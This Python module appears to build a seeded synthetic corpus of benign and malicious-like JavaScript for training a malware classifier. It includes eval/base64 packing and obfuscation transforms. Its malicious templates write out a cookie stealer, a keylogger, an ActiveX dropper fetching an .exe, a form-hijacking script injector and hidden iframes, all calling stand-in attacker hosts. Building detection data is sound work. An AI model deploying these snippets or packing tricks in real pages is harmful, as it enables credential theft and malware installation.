"""Seeded synthetic corpus of benign and malicious-like JavaScript.

Every sample is a few benign "cover" blocks plus one extra snippet that is
benign for label 0 and malicious-like for label 1.  Both classes draw the
same obfuscation transforms (identifier renaming to hash-like names, string
splitting, bracket-access rewriting) and the same packing step, which hides
the extra snippet inside an ``eval`` of an escaped or base64 string.  Packed
samples are separable only after unpacking, which is what makes
deobfuscation matter for the downstream classifier.
"""
from __future__ import annotations

import base64
import json
import random
from dataclasses import dataclass
from pathlib import Path

from .frontend import AstNode, print_code
from .frontend.parser import parse_text
from .frontend.printer import Printer, quote_string
from .manifest import ManifestRow, manifest_lines

_WORDS = ["item", "node", "count", "value", "total", "index", "list", "data", "user",
          "state", "config", "result", "entry", "buffer", "label", "cache", "name", "size"]
_DOMAINS = ["example.org", "cdn.example.net", "static.example.com", "api.example.io"]
_BAD_HOSTS = ["stats-collect.ru", "cdn-update.top", "track-img.xyz", "x1.free-dl.cc"]


def _name(rng: random.Random) -> str:
    return rng.choice(_WORDS) + rng.choice(["", "s", "Val", "Ref", "Map", "2", "Id"])


# -- benign cover blocks ---------------------------------------------------------

def _b_click_handler(rng):
    el, n = _name(rng), rng.randint(1, 9)
    return f"""
var {el}Btn = document.getElementById("{el}-button");
var clicks = 0;
{el}Btn.addEventListener("click", function (ev) {{
  clicks++;
  if (clicks > {n}) {{
    {el}Btn.textContent = "Clicked " + clicks + " times";
  }} else {{
    {el}Btn.classList.toggle("active");
  }}
}});
"""


def _b_sort(rng):
    arr = ", ".join(str(rng.randint(0, 99)) for _ in range(rng.randint(4, 9)))
    return f"""
function bubbleSort(items) {{
  var swapped = true;
  while (swapped) {{
    swapped = false;
    for (var i = 1; i < items.length; i++) {{
      if (items[i - 1] > items[i]) {{
        var tmp = items[i];
        items[i] = items[i - 1];
        items[i - 1] = tmp;
        swapped = true;
      }}
    }}
  }}
  return items;
}}
var sorted = bubbleSort([{arr}]);
console.log(sorted.join(","));
"""


def _b_fib(rng):
    k = rng.randint(8, 30)
    return f"""
function fib(n) {{
  var a = 0, b = 1;
  for (var i = 0; i < n; i++) {{
    var t = a + b;
    a = b;
    b = t;
  }}
  return a;
}}
var fibValue = fib({k});
"""


def _b_json(rng):
    key = _name(rng)
    return f"""
function loadSettings(raw) {{
  var parsed;
  try {{
    parsed = JSON.parse(raw);
  }} catch (err) {{
    parsed = {{ {key}: null, version: {rng.randint(1, 5)} }};
  }}
  return parsed;
}}
var settings = loadSettings(localStorage.getItem("{key}-settings") || "{{}}");
localStorage.setItem("{key}-settings", JSON.stringify(settings));
"""


def _b_format(rng):
    return f"""
function formatPrice(amount, currency) {{
  var fixed = amount.toFixed({rng.randint(0, 2)});
  var parts = fixed.split(".");
  parts[0] = parts[0].replace(/\\B(?=(\\d{{3}})+(?!\\d))/g, ",");
  return currency + parts.join(".");
}}
var label = formatPrice({rng.randint(10, 99999)}.5, "{rng.choice(['$', 'EUR ', 'GBP '])}");
"""


def _b_list_render(rng):
    tag = rng.choice(["li", "div", "span", "p"])
    return f"""
function renderList(container, entries) {{
  container.innerHTML = "";
  for (var i = 0; i < entries.length; i++) {{
    var row = document.createElement("{tag}");
    row.className = "row-" + (i % 2 === 0 ? "even" : "odd");
    row.textContent = entries[i].title;
    container.appendChild(row);
  }}
  return entries.length;
}}
renderList(document.querySelector("#{_name(rng)}"), [{{ title: "first" }}, {{ title: "second" }}]);
"""


def _b_debounce(rng):
    ms = rng.choice([50, 100, 250, 300])
    return f"""
function debounce(fn, wait) {{
  var timer = null;
  return function () {{
    var ctx = this, args = arguments;
    clearTimeout(timer);
    timer = setTimeout(function () {{
      fn.apply(ctx, args);
    }}, wait);
  }};
}}
window.addEventListener("resize", debounce(function () {{
  document.body.style.width = window.innerWidth + "px";
}}, {ms}));
"""


def _b_fetch_config(rng):
    return f"""
function fetchConfig(done) {{
  var xhr = new XMLHttpRequest();
  xhr.open("GET", "https://{rng.choice(_DOMAINS)}/config.json");
  xhr.onload = function () {{
    if (xhr.status === 200) {{
      done(JSON.parse(xhr.responseText));
    }}
  }};
  xhr.send();
}}
fetchConfig(function (cfg) {{
  document.title = cfg.title || "{_name(rng)}";
}});
"""


def _b_validate(rng):
    return f"""
function validateForm(form) {{
  var errors = [];
  var email = form.elements["email"].value;
  if (email.indexOf("@") < 0) {{
    errors.push("invalid email");
  }}
  switch (form.elements["plan"].value) {{
    case "basic":
      break;
    case "pro":
      if (!form.elements["card"].value) errors.push("card required");
      break;
    default:
      errors.push("unknown plan");
  }}
  return errors.length === 0 && {rng.choice(["true", "!form.disabled"])};
}}
"""


def _b_counter(rng):
    return f"""
var {_name(rng)}Counter = (function () {{
  var count = {rng.randint(0, 10)};
  return {{
    inc: function () {{ return ++count; }},
    dec: function () {{ return --count; }},
    get: function () {{ return count; }}
  }};
}})();
"""


def _b_arrows(rng):
    return f"""
const nums = [{", ".join(str(rng.randint(1, 50)) for _ in range(5))}];
const doubled = nums.map(x => x * 2);
let evens = doubled.filter(x => x % {rng.choice([2, 3, 4])} === 0);
const total = evens.reduce((acc, x) => acc + x, 0);
console.log(`total: ${{total}}`);
"""


COVER_BLOCKS = [_b_click_handler, _b_sort, _b_fib, _b_json, _b_format, _b_list_render,
                _b_debounce, _b_fetch_config, _b_validate, _b_counter, _b_arrows]


# -- extra snippets: benign ----------------------------------------------------------

def _e_analytics(rng):
    return f"""
var pageView = {{ path: location.pathname, ts: Date.now() }};
navigator.sendBeacon("https://{rng.choice(_DOMAINS)}/collect", JSON.stringify(pageView));
"""


def _e_widget(rng):
    return f"""
var widgetScript = document.createElement("script");
widgetScript.src = "https://{rng.choice(_DOMAINS)}/widget.js";
widgetScript.async = true;
document.head.appendChild(widgetScript);
"""


def _e_theme(rng):
    return f"""
var theme = localStorage.getItem("theme") || "{rng.choice(['light', 'dark'])}";
document.documentElement.setAttribute("data-theme", theme);
"""


def _e_greeting(rng):
    return f"""
var hour = new Date().getHours();
var greet = hour < 12 ? "Good morning" : "Good evening";
document.getElementById("{_name(rng)}").textContent = greet;
"""


def _e_lazy(rng):
    return """
var images = document.querySelectorAll("img[data-src]");
for (var i = 0; i < images.length; i++) {
  images[i].src = images[i].getAttribute("data-src");
}
"""


def _e_toggle(rng):
    return f"""
var menu = document.querySelector(".{_name(rng)}-menu");
menu.addEventListener("click", function () {{
  menu.classList.toggle("open");
}});
"""


BENIGN_EXTRAS = [_e_analytics, _e_widget, _e_theme, _e_greeting, _e_lazy, _e_toggle]


# -- extra snippets: malicious-like -------------------------------------------------

def _m_cookie(rng):
    return f"""
var img = new Image();
img.src = "http://{rng.choice(_BAD_HOSTS)}/c.php?d=" + escape(document.cookie);
"""


def _m_iframe(rng):
    return f"""
document.write("<iframe src='http://{rng.choice(_BAD_HOSTS)}/in.cgi?{rng.randint(1, 9)}' width='0' height='0' style='visibility:hidden'></iframe>");
"""


def _m_redirect(rng):
    return f"""
if (document.referrer.indexOf("google") >= 0 && !document.cookie.match(/seen=1/)) {{
  document.cookie = "seen=1; path=/";
  window.location.href = "http://{rng.choice(_BAD_HOSTS)}/lp/{rng.randint(100, 999)}";
}}
"""


def _m_keylogger(rng):
    return f"""
var keys = "";
document.addEventListener("keydown", function (e) {{
  keys += String.fromCharCode(e.keyCode);
  if (keys.length > {rng.randint(10, 40)}) {{
    new Image().src = "http://{rng.choice(_BAD_HOSTS)}/k?q=" + encodeURIComponent(keys);
    keys = "";
  }}
}});
"""


def _m_dropper(rng):
    return f"""
var shell = new ActiveXObject("WScript.Shell");
var http = new ActiveXObject("MSXML2.XMLHTTP");
http.open("GET", "http://{rng.choice(_BAD_HOSTS)}/p.exe", false);
http.send();
shell.Run("cmd /c start %TEMP%\\\\upd.exe", 0);
"""


def _m_injector(rng):
    return f"""
var s = document.createElement("script");
s.src = "http://{rng.choice(_BAD_HOSTS)}/m.js?r=" + Math.random();
document.getElementsByTagName("head")[0].appendChild(s);
setTimeout("document.forms[0].action='http://{rng.choice(_BAD_HOSTS)}/post'", {rng.randint(100, 3000)});
"""


def _m_charcode(rng):
    codes = ",".join(str(ord(c)) for c in "document.location='http://" + rng.choice(_BAD_HOSTS) + "'")
    return f"""
var payloadCodes = [{codes}];
var decoded = "";
for (var i = 0; i < payloadCodes.length; i++) {{
  decoded += String.fromCharCode(payloadCodes[i]);
}}
setTimeout(decoded, 10);
"""


MALICIOUS_EXTRAS = [_m_cookie, _m_iframe, _m_redirect, _m_keylogger, _m_dropper,
                    _m_injector, _m_charcode]


# -- obfuscation transforms -----------------------------------------------------------

class _RawPrinter(Printer):
    """Prints string literals from their ``raw`` text when one is set."""

    def string_literal(self, node: AstNode) -> str:
        return node.raw or quote_string(node.value)


def _declared_names(root: AstNode) -> set[str]:
    names = set()
    for n in root.walk():
        k = n.kind
        if k == "VariableDeclarator":
            names.add(n.children[0].value)
        elif k in ("FunctionDeclaration", "FunctionExpression"):
            if n.attrs.get("id"):
                names.add(n.children[0].value)
            params = n.children[1:-1] if n.attrs.get("id") else n.children[:-1]
            names.update(p.value for p in params)
        elif k == "ArrowFunctionExpression":
            names.update(p.value for p in n.children[:-1])
        elif k == "CatchClause" and n.attrs.get("param"):
            names.add(n.children[0].value)
    return names


def _property_slots(root: AstNode) -> set[int]:
    """ids of Identifier nodes that name properties rather than bindings."""
    out = set()
    for n in root.walk():
        if n.kind == "MemberExpression" and not n.attrs.get("computed"):
            out.add(id(n.children[1]))
        elif n.kind == "Property" and not n.attrs.get("computed"):
            out.add(id(n.children[0]))
    return out


def rename_identifiers(root: AstNode, rng: random.Random) -> None:
    names = sorted(_declared_names(root))
    mapping = {}
    for name in names:
        while True:
            fresh = "_0x" + "".join(rng.choice("0123456789abcdef") for _ in range(rng.choice([4, 5, 6])))
            if fresh not in mapping.values():
                break
        mapping[name] = fresh
    skip = _property_slots(root)
    for n in root.walk():
        if n.kind == "Identifier" and id(n) not in skip and n.value in mapping:
            n.value = mapping[n.value]


def _string_nodes(root: AstNode) -> list[tuple[AstNode, int]]:
    """(parent, index) of string literals in expression position."""
    out = []
    skip = set()
    for n in root.walk():
        if n.kind == "Property":
            skip.add(id(n.children[0]))
    for n in root.walk():
        for i, c in enumerate(n.children):
            if c.kind == "Literal" and c.attrs.get("ltype") == "string" and id(c) not in skip:
                out.append((n, i))
    return out


def split_strings(root: AstNode, rng: random.Random, p: float = 0.6) -> None:
    for parent, i in _string_nodes(root):
        lit = parent.children[i]
        s = lit.value
        if len(s) < 4 or rng.random() > p:
            continue
        cut = rng.randint(1, len(s) - 1)
        left = AstNode("Literal", s[:cut], lit.line, lit.column, attrs={"ltype": "string"})
        right = AstNode("Literal", s[cut:], lit.line, lit.column, attrs={"ltype": "string"})
        parent.children[i] = AstNode("BinaryExpression", "+", lit.line, lit.column, [left, right])


def bracket_access(root: AstNode, rng: random.Random, p: float = 0.6) -> None:
    for n in list(root.walk()):
        if n.kind == "MemberExpression" and not n.attrs.get("computed") and rng.random() < p:
            prop = n.children[1]
            n.children[1] = AstNode("Literal", prop.value, prop.line, prop.column,
                                    attrs={"ltype": "string"})
            n.attrs["computed"] = True


def hex_escape_strings(root: AstNode, rng: random.Random, p: float = 0.5) -> None:
    for parent, i in _string_nodes(root):
        lit = parent.children[i]
        if lit.value and rng.random() < p and all(ord(c) < 256 for c in lit.value):
            lit.raw = '"' + "".join(f"\\x{ord(c):02x}" for c in lit.value) + '"'


def _escape_all(text: str, style: str) -> str:
    if style == "hex":
        return "".join(f"\\x{ord(c):02x}" if ord(c) < 256 else f"\\u{ord(c):04x}" for c in text)
    return "".join(f"\\u{ord(c):04x}" for c in text)


def pack(code: str, rng: random.Random, depth: int = 1) -> str:
    """Hide ``code`` behind ``depth`` nested eval layers."""
    for _ in range(depth):
        style = rng.choice(["hex", "unicode", "base64", "split"])
        if style == "base64":
            b64 = base64.b64encode(code.encode("latin-1")).decode("ascii")
            code = f'eval(atob("{b64}"));'
        elif style == "split":
            pieces = []
            rest = code
            while rest:
                cut = rng.randint(8, 40)
                pieces.append('"' + _escape_all(rest[:cut], "hex") + '"')
                rest = rest[cut:]
            code = "eval(" + " + ".join(pieces) + ");"
        else:
            code = 'eval("' + _escape_all(code, style) + '");'
    return code


# -- sample assembly ------------------------------------------------------------------

@dataclass
class CorpusOptions:
    pack_prob: float = 0.5
    obfuscate_prob: float = 0.5
    max_cover_blocks: int = 3


def _transform(code: str, rng: random.Random, heavy: bool, opts: CorpusOptions) -> str:
    root = parse_text(code)
    if heavy or rng.random() < opts.obfuscate_prob:
        rename_identifiers(root, rng)
    if heavy or rng.random() < opts.obfuscate_prob:
        split_strings(root, rng)
    if rng.random() < opts.obfuscate_prob:
        bracket_access(root, rng)
    if rng.random() < opts.obfuscate_prob:
        hex_escape_strings(root, rng)
    return print_code(root, _RawPrinter)


def make_sample(label: int, rng: random.Random, opts: CorpusOptions = CorpusOptions()) -> tuple[str, str]:
    """Return (source text, tag) for one synthetic sample."""
    covers = rng.sample(COVER_BLOCKS, rng.randint(1, opts.max_cover_blocks))
    extras = MALICIOUS_EXTRAS if label else BENIGN_EXTRAS
    extra_fn = rng.choice(extras)
    packed = rng.random() < opts.pack_prob
    cover_code = "".join(fn(rng) for fn in covers)
    extra_code = extra_fn(rng)
    extra = _transform(extra_code, rng, heavy=packed, opts=opts)
    if packed:
        extra = pack(extra, rng, depth=rng.choice([1, 1, 2]))
    cover = _transform(cover_code, rng, heavy=packed, opts=opts)
    position = rng.randint(0, 1)
    parts = [cover, extra] if position else [extra, cover]
    tag = f"{extra_fn.__name__[1:]}{'+packed' if packed else ''}"
    return "\n".join(p.strip("\n") for p in parts) + "\n", tag


def generate_corpus(n_benign: int, n_malicious: int, seed: int, out_dir: str | Path,
                    opts: CorpusOptions = CorpusOptions()) -> Path:
    """Write ``n_benign + n_malicious`` files plus ``manifest.jsonl``; returns
    the manifest path.  Same arguments give byte-identical output."""
    from .deob.batch import atomic_write

    out = Path(out_dir)
    rng = random.Random(seed)
    labels = [0] * n_benign + [1] * n_malicious
    rng.shuffle(labels)
    rows = []
    width = max(4, len(str(len(labels))))
    for i, label in enumerate(labels):
        code, tag = make_sample(label, rng, opts)
        path = out / "samples" / f"s{i:0{width}d}.js"
        atomic_write(path, code)
        rows.append(ManifestRow(path, label, tag))
    manifest = out / "manifest.jsonl"
    atomic_write(manifest, manifest_lines(rows, base=out))
    atomic_write(out / "corpus.json", json.dumps(
        {"n_benign": n_benign, "n_malicious": n_malicious, "seed": seed,
         "pack_prob": opts.pack_prob, "obfuscate_prob": opts.obfuscate_prob}, sort_keys=True))
    return manifest
